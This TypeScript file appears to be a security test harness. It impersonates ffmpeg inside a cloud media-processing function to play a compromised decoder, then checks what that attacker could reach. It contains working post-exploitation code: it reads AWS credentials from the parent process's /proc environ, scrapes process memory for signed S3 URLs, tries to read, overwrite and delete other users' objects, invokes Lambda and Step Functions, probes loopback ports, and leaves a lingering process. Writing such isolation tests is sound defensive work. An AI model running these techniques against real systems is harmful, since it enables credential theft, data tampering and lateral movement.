// A program of its own: what somebody would do whose file has taken over a decoder. It is started in the place of ffmpeg,
// takes whatever it can find, tries with it all that it should not be able to, and writes down what it got.

import { spawn } from 'node:child_process';
import {
  closeSync,
  openSync,
  readFileSync,
  readSync,
  readdirSync,
  readlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import {
  DeleteObjectCommand,
  GetObjectCommand,
  ListObjectsV2Command,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { SFNClient, StartExecutionCommand } from '@aws-sdk/client-sfn';

export interface Prey {
  buckets: { uploads: string; media: string };
  /** Keys of another video; the attacker is told, as it cannot list them. */
  source: string;
  artifact: string;
  functionName: string;
  stateMachineArn: string;
}

export interface Loot {
  /** Of the function whose decoder was taken over. */
  functionPid: number;
  ownEnvironment: string[];
  /** Names of variables of the function. */
  functionEnvironment: string[];
  /** Paths of signed requests that were in the function's memory, as far as it could be read. */
  links: string[];
  /** What was tried, and what came of it: a status, or an error's name. */
  tried: Record<string, string | number>;
  /** What others had left on the disk. */
  found: string[];
  leftProcess: number;
}

const [, , lootPath, preyText, leftName] = process.argv;
const prey = JSON.parse(preyText!) as Prey;

// The function started a shell, which became what started this.
const functionPid = Number(/\) \S (\d+)/.exec(readFileSync(`/proc/${process.ppid}/stat`, 'utf8'))![1]);
const environment = Object.fromEntries(
  readFileSync(`/proc/${functionPid}/environ`, 'utf8')
    .split('\0')
    .map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
);
const links = linksInMemory(functionPid);
const tried: Loot['tried'] = {};

const credentials = {
  accessKeyId: environment['AWS_ACCESS_KEY_ID'] ?? '',
  secretAccessKey: environment['AWS_SECRET_ACCESS_KEY'] ?? '',
  sessionToken: environment['AWS_SESSION_TOKEN'] ?? '',
};
const of = (service: string) => ({
  ...{ credentials, region: environment['AWS_REGION']!, maxAttempts: 1 },
  endpoint: environment[`AWS_ENDPOINT_URL_${service}`]!,
});
const s3 = new S3Client({ ...of('S3'), forcePathStyle: true });
const { uploads, media } = prey.buckets;
await attempt('role: read another source', () =>
  s3.send(new GetObjectCommand({ Bucket: uploads, Key: prey.source })),
);
await attempt('role: read another segment', () =>
  s3.send(new GetObjectCommand({ Bucket: media, Key: prey.artifact })),
);
await attempt('role: list uploads', () => s3.send(new ListObjectsV2Command({ Bucket: uploads })));
await attempt('role: list media', () => s3.send(new ListObjectsV2Command({ Bucket: media })));
await attempt('role: overwrite', () =>
  s3.send(new PutObjectCommand({ Bucket: media, Key: prey.artifact, Body: 'taken over' })),
);
await attempt('role: delete', () => s3.send(new DeleteObjectCommand({ Bucket: media, Key: prey.artifact })));
await attempt('role: invoke another function', () =>
  new LambdaClient(of('LAMBDA')).send(
    new InvokeCommand({ FunctionName: prey.functionName, InvocationType: 'Event', Payload: '{}' }),
  ),
);
await attempt('role: start an execution', () =>
  new SFNClient(of('SFN')).send(
    new StartExecutionCommand({ stateMachineArn: prey.stateMachineArn, input: '{}' }),
  ),
);

for (const link of links) {
  const url = new URL(link);
  const [, bucket] = url.pathname.split('/');
  const isSource = bucket === uploads;
  const kind = isSource ? 'source link' : 'artifact link';
  const other = new URL(link);
  other.pathname = `/${bucket}/${isSource ? prey.source : prey.artifact}`;
  await sent(`${kind}: read another video`, 'GET', other);
  await sent(`${kind}: overwrite another video`, 'PUT', other);
  await sent(`${kind}: delete`, 'DELETE', url);
  await sent(`${kind}: overwrite without a condition`, 'PUT', url);
  if (isSource) await sent(`${kind}: read its own source`, 'GET', url);
}

for (const port of portsOf(functionPid)) {
  const answer = await fetch(`http://127.0.0.1:${port}/`).catch((error: Error) => error);
  tried['loopback: what the function listens for, without its path'] =
    answer instanceof Error ? answer.name : answer.status;
}

const temporary = environment['TMPDIR']!;
const found = readdirSync(temporary);
writeFileSync(join(temporary, leftName!), 'was here');
const left = spawn('/bin/sleep', ['120'], { detached: true, stdio: 'ignore' });
left.unref();

const loot: Loot = {
  functionPid,
  ownEnvironment: Object.keys(process.env),
  functionEnvironment: Object.keys(environment).filter((name) => name !== ''),
  links: [...new Set(links.map((link) => new URL(link).pathname))],
  tried,
  found,
  leftProcess: left.pid!,
};
writeFileSync(lootPath!, JSON.stringify(loot));

async function attempt(name: string, work: () => Promise<{ $metadata: { httpStatusCode?: number } }>) {
  tried[name] = await work().then(
    ({ $metadata }) => $metadata.httpStatusCode ?? 'done',
    (error: Error) => error.name,
  );
}

/** The worst that any such link could do is what counts. */
async function sent(name: string, method: string, url: URL): Promise<void> {
  const body = method === 'PUT' ? { body: 'taken over' } : {};
  const { status } = await fetch(url, { method, ...body });
  const before = tried[name];
  if (before === undefined || status < 300) tried[name] = status;
}

/** On which a process listens. */
function portsOf(pid: number): number[] {
  const sockets = new Set(
    readdirSync(`/proc/${pid}/fd`).flatMap((fd) => {
      try {
        return /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`))?.[1] ?? [];
      } catch {
        return []; // closed meanwhile
      }
    }),
  );
  const LISTENING = '0A';
  return readFileSync('/proc/net/tcp', 'utf8')
    .split('\n')
    .map((line) => line.trim().split(/\s+/))
    .filter(([, , , state, , , , , , inode]) => state === LISTENING && sockets.has(inode!))
    .map(([, local]) => Number.parseInt(local!.split(':')[1]!, 16));
}

/** What looks like a signed URL in all of the memory of a process that can be read. */
function linksInMemory(pid: number): string[] {
  const found = new Set<string>();
  const memory = openSync(`/proc/${pid}/mem`, 'r');
  for (const line of readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
    const [, from, to] = /^([\da-f]+)-([\da-f]+) rw/.exec(line) ?? [];
    if (!from || !to) continue;
    const bytes = Buffer.alloc(Math.min(Number.parseInt(to, 16) - Number.parseInt(from, 16), 64 * 1024 ** 2));
    try {
      readSync(memory, bytes, 0, bytes.length, Number.parseInt(from, 16));
    } catch {
      continue; // reserved, and never used
    }
    const text = bytes.toString('latin1');
    for (const [link] of text.matchAll(
      /http:\/\/[\w.:]+\/[\w./-]+\?[\w=&%./+-]*X-Amz-Signature=[\w=&%./+-]+/g,
    )) {
      found.add(link);
    }
  }
  closeSync(memory);
  return [...found].slice(0, 400);
}
